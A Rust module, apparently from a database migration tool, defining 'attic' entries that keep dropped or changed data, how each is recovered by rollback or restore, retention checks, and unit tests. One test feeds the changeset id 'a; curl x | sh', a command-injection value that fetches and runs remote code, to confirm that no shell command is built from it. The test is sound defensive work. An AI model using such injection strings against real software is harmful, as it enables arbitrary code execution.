//! What the attic keeps: its entries as values, and by which way each comes back.

use super::recorded::RecordedStatus;
use crate::base::remedy::Call;
use crate::base::{HumanDuration, Operation, time};
use crate::source::changeset::is_id;
use schemars::JsonSchema;
use serde::Serialize;

/// The kind of an entry with data. Entries of definitions (a default, a type …) have no data.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, JsonSchema)]
#[serde(rename_all = "camelCase")]
pub enum AtticKind {
    /// A dropped table.
    Table,
    /// A dropped column, which has another name in its table.
    Column,
    /// The rows of a table that a rollback dropped.
    Rows,
    /// The values of a column that a rollback dropped.
    Values,
    /// The old rows of an update.
    Update,
    /// The old rows of an upsert.
    Upsert,
    /// The deleted rows.
    Delete,
}

impl AtticKind {
    /// Every kind with its word in the ledger and in JSON.
    pub const ALL: [(AtticKind, &'static str); 7] = [
        (AtticKind::Table, "table"),
        (AtticKind::Column, "column"),
        (AtticKind::Rows, "rows"),
        (AtticKind::Values, "values"),
        (AtticKind::Update, "update"),
        (AtticKind::Upsert, "upsert"),
        (AtticKind::Delete, "delete"),
    ];

    /// The word in the ledger and in JSON.
    #[must_use]
    pub fn word(self) -> &'static str {
        Self::ALL.iter().find(|(kind, _)| *kind == self).map_or("", |(_, word)| word)
    }

    /// The kind of this word.
    #[must_use]
    pub fn from_word(word: &str) -> Option<Self> {
        Self::ALL.iter().find(|(_, known)| *known == word).map(|(kind, _)| *kind)
    }

    /// Whether the rollback of an applied changeset needs it.
    #[must_use]
    pub fn is_for_rollback(self) -> bool {
        !matches!(self, AtticKind::Rows | AtticKind::Values)
    }

    /// A few words for people.
    #[must_use]
    pub fn words(self) -> &'static str {
        match self {
            AtticKind::Update => "rows before an update of",
            AtticKind::Upsert => "rows before an upsert of",
            AtticKind::Delete => "rows deleted from",
            AtticKind::Rows => "rows of",
            AtticKind::Values => "values of",
            AtticKind::Table => "table",
            AtticKind::Column => "column",
        }
    }
}

/// How an entry comes back.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Recovery {
    /// By the rollback of its changeset.
    Rollback,
    /// By itself.
    Restore,
    /// Not now, or not at all: why.
    None(&'static str),
}

/// An entry that keeps data.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Entry {
    /// The number of the entry.
    pub id: i64,
    /// The changeset that dropped or changed the object.
    pub changeset: String,
    /// What that is here now; `None`: it is not applied.
    pub status: Option<RecordedStatus>,
    /// Whether its rollback puts back what is kept: it is derived, and nothing of it was purged.
    pub by_rollback: bool,
    /// The kind of the entry.
    pub kind: AtticKind,
    /// The original object: `schema.table`, `schema.table.column`.
    pub object: String,
    /// What it is called now; `None`: the entry itself holds the rows.
    pub kept_as: Option<String>,
    /// The table that has it, or that it goes back into; `None`: it is not there.
    pub home: Option<String>,
    /// The number of rows; an estimate for a table or column.
    pub rows: Option<i64>,
    /// The size in bytes; an estimate for a column.
    pub bytes: Option<i64>,
    /// Since when, in milliseconds since 1970.
    pub kept_at: i64,
    /// When it was put back; what could not be is still kept.
    pub restored_at: Option<i64>,
    /// When it was purged.
    pub purged_at: Option<i64>,
    /// Whether something of it is kept now.
    pub is_kept: bool,
    /// The number of restored rows or values.
    pub put_back: Option<i64>,
}

impl Entry {
    /// `column app.users.email`.
    #[must_use]
    pub fn describe(&self) -> String {
        format!("{} {}", self.kind.words(), self.object)
    }

    /// Until when it is kept by a retention, in milliseconds since 1970.
    #[must_use]
    pub fn until(&self, keep: Option<HumanDuration>) -> Option<i64> {
        keep.map(|keep| self.kept_at.saturating_add(i64::try_from(keep.millis).unwrap_or(i64::MAX)))
    }

    /// Whether its retention is over at this time.
    #[must_use]
    pub fn is_expired(&self, keep: Option<HumanDuration>, now: i64) -> bool {
        self.until(keep).is_some_and(|until| until <= now)
    }

    /// How it comes back.
    #[must_use]
    pub fn way(&self) -> Recovery {
        match (self.kind, self.status) {
            _ if self.restored_at.is_some() => Recovery::None("restored, except for rows with a conflict"),
            (_, Some(RecordedStatus::Partly)) => Recovery::None("its changeset is partly applied"),
            (AtticKind::Rows | AtticKind::Values, _) if self.home.is_none() => {
                Recovery::None("its table does not exist: apply its changeset again")
            }
            (AtticKind::Rows | AtticKind::Values, _) => Recovery::Restore,
            _ if self.by_rollback => Recovery::Rollback,
            (AtticKind::Table | AtticKind::Column, _) => Recovery::Restore,
            (AtticKind::Update | AtticKind::Upsert | AtticKind::Delete, _) => {
                Recovery::None("no rollback restores it any more")
            }
        }
    }

    /// The operation that puts it back; none of what somebody wrote by hand where an id stands, as it will be
    /// given to a shell.
    #[must_use]
    pub fn call(&self) -> Option<Call> {
        match self.way() {
            Recovery::Rollback if !is_id(&self.changeset) => None,
            Recovery::Rollback => Some(Operation::Rollback.on(&self.changeset)),
            Recovery::Restore => Some(Operation::AtticRestore.on(self.id.to_string())),
            Recovery::None(_) => None,
        }
    }

    /// Of one that was put back: what came of it.
    #[must_use]
    pub fn outcome(&self) -> Option<String> {
        let (put_back, rows) = (self.put_back?, self.rows?);
        let all = format!(
            "entry {}: {put_back} of {rows} {} put back",
            self.id,
            if self.kind == AtticKind::Rows { "rows" } else { "values" }
        );
        Some(match rows - put_back {
            0 => all,
            left => format!("{all}; {left} stay until they are purged: a row of the same key is there, or none"),
        })
    }

    /// What an event says of it.
    #[must_use]
    pub fn told(&self) -> EntrySummary<'_> {
        EntrySummary {
            entry: self.id,
            kind: self.kind,
            object: &self.object,
            kept_as: self.kept_as.as_deref(),
            kept_at: time::rfc3339(self.kept_at),
            rows: self.rows,
            bytes: self.bytes,
            restored_rows: self.put_back,
        }
    }

    /// The same and what is to be known of it now; `command` words what puts it back.
    #[must_use]
    pub fn listed(&self, keep: Option<HumanDuration>, now: i64, command: impl Fn(&Call) -> String) -> ListedEntry<'_> {
        ListedEntry {
            told: self.told(),
            changeset: &self.changeset,
            table: self.home.as_deref(),
            kept_until: self.until(keep).map(time::rfc3339),
            expired: self.is_expired(keep, now),
            restored_at: self.restored_at.map(time::rfc3339),
            restore_by: self.call().as_ref().map(command),
            restore_by_parts: self.call(),
            not_restorable: match self.way() {
                Recovery::None(why) => Some(why),
                Recovery::Rollback | Recovery::Restore => None,
            },
        }
    }
}

/// An attic entry in an event, a plan or a summary.
#[derive(Debug, Clone, Serialize, JsonSchema)]
#[serde(rename_all = "camelCase")]
#[schemars(rename = "AtticEntry")]
pub struct EntrySummary<'a> {
    /// The number of the entry.
    entry: i64,
    /// The kind of the entry.
    kind: AtticKind,
    /// The original object: `schema.table`, `schema.table.column`.
    object: &'a str,
    /// The current name of the object; null: the entry itself contains the rows.
    kept_as: Option<&'a str>,
    /// The time when it was dropped or changed, as RFC 3339 in UTC.
    kept_at: String,
    /// The number of rows; an estimate for a table or column.
    rows: Option<i64>,
    /// The size in bytes; an estimate for a column.
    bytes: Option<i64>,
    /// The number of restored rows or values.
    #[serde(skip_serializing_if = "Option::is_none")]
    restored_rows: Option<i64>,
}

/// An attic entry with its current state.
#[derive(Debug, Clone, Serialize, JsonSchema)]
#[serde(rename_all = "camelCase")]
#[schemars(rename = "ListedAtticEntry")]
pub struct ListedEntry<'a> {
    /// The entry.
    #[serde(flatten)]
    told: EntrySummary<'a>,
    /// The changeset that dropped or changed the object.
    changeset: &'a str,
    /// The table that contains it, or into which it is restored; null: the table does not exist.
    table: Option<&'a str>,
    /// The end of the environment's retention, as RFC 3339 in UTC; null: unlimited.
    kept_until: Option<String>,
    /// True if the retention is over.
    expired: bool,
    /// The time of the restore, as RFC 3339 in UTC; the entry still keeps what could not be restored.
    restored_at: Option<String>,
    /// The command that restores it.
    restore_by: Option<String>,
    /// The operation that restores it.
    restore_by_parts: Option<Call>,
    /// The reason why it cannot be restored now, or at all.
    not_restorable: Option<&'static str>,
}

/// The total size of the entries.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, JsonSchema)]
#[serde(rename_all = "camelCase")]
#[schemars(rename = "AtticTotals")]
pub struct Totals {
    /// The number of entries.
    pub entries: usize,
    /// Their size in bytes, as far as it is known.
    pub bytes: i64,
    /// The number of entries whose retention is over.
    pub expired: usize,
    /// Their size in bytes.
    pub expired_bytes: i64,
}

impl Totals {
    /// Counts.
    #[must_use]
    pub fn of(entries: &[Entry], keep: Option<HumanDuration>, now: i64) -> Self {
        let mut totals = Self::default();
        for entry in entries {
            let bytes = entry.bytes.unwrap_or(0);
            totals.entries += 1;
            totals.bytes = totals.bytes.saturating_add(bytes);
            if entry.is_expired(keep, now) {
                totals.expired += 1;
                totals.expired_bytes = totals.expired_bytes.saturating_add(bytes);
            }
        }
        totals
    }
}

/// Data that the rollback of a changeset would need, and that was purged.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Purged {
    /// The entry.
    pub id: i64,
    /// What it kept.
    pub what: String,
    /// When it was purged, in milliseconds since 1970.
    pub at: i64,
    /// By whom: role, and who ran it where.
    pub by: Option<String>,
}

impl Purged {
    /// Why what needs it cannot be rolled back.
    #[must_use]
    pub fn reason(list: &[Self]) -> String {
        let one = |p: &Self| {
            let by = p.by.as_ref().map_or_else(String::new, |by| format!(" by {by}"));
            format!("{} (entry {}) on {}{by}", p.what, p.id, time::rfc3339(p.at))
        };
        let all: Vec<String> = list.iter().map(one).collect();
        format!("its data was purged from the attic: {}", all.join("; "))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(kind: AtticKind, status: Option<RecordedStatus>) -> Entry {
        Entry {
            id: 3,
            changeset: "009-drop".to_owned(),
            status,
            by_rollback: status.is_some(),
            kind,
            object: "app.users.email".to_owned(),
            kept_as: None,
            home: Some("app.users".to_owned()),
            rows: None,
            bytes: Some(10),
            kept_at: 1000,
            restored_at: None,
            purged_at: None,
            is_kept: true,
            put_back: None,
        }
    }

    #[test]
    fn the_way_back_follows_from_kind_and_changeset() {
        let command = |entry: Entry| entry.call();
        let rollback = Some(Operation::Rollback.on("009-drop"));
        let restore = Some(Operation::AtticRestore.on("3"));
        assert_eq!(command(entry(AtticKind::Column, Some(RecordedStatus::Applied))), rollback);
        assert_eq!(command(entry(AtticKind::Delete, Some(RecordedStatus::Applied))), rollback);
        assert_eq!(command(entry(AtticKind::Column, None)), restore);
        assert_eq!(command(entry(AtticKind::Rows, Some(RecordedStatus::Applied))), restore);
        assert_eq!(
            command(Entry { by_rollback: false, ..entry(AtticKind::Table, Some(RecordedStatus::Applied)) }),
            restore
        );
        assert_eq!(
            command(Entry { by_rollback: false, ..entry(AtticKind::Update, Some(RecordedStatus::Applied)) }),
            None
        );
        assert_eq!(command(Entry { home: None, ..entry(AtticKind::Values, None) }), None);
        assert_eq!(command(entry(AtticKind::Delete, None)), None);
        let odd =
            Entry { changeset: "a; curl x | sh".to_owned(), ..entry(AtticKind::Table, Some(RecordedStatus::Applied)) };
        assert_eq!(command(odd), None);
        assert_eq!(command(entry(AtticKind::Table, Some(RecordedStatus::Partly))), None);
        assert_eq!(command(Entry { restored_at: Some(5), ..entry(AtticKind::Rows, None) }), None);
    }

    #[test]
    fn retention_ends_when_its_time_is_over() {
        let (entry, keep) = (entry(AtticKind::Table, None), Some(HumanDuration::millis(50)));
        assert_eq!(entry.until(keep), Some(1050));
        assert!(!entry.is_expired(keep, 1049) && entry.is_expired(keep, 1050) && !entry.is_expired(None, i64::MAX));
        let totals = Totals::of(&[entry.clone(), Entry { kept_at: 0, ..entry }], keep, 1049);
        assert_eq!(totals, Totals { entries: 2, bytes: 20, expired: 1, expired_bytes: 10 });
    }

    #[test]
    fn every_kind_has_its_word() {
        for (kind, word) in AtticKind::ALL {
            assert_eq!((kind.word(), AtticKind::from_word(word)), (word, Some(kind)));
            assert_eq!(serde_json::to_value(kind).unwrap(), word);
        }
    }
}
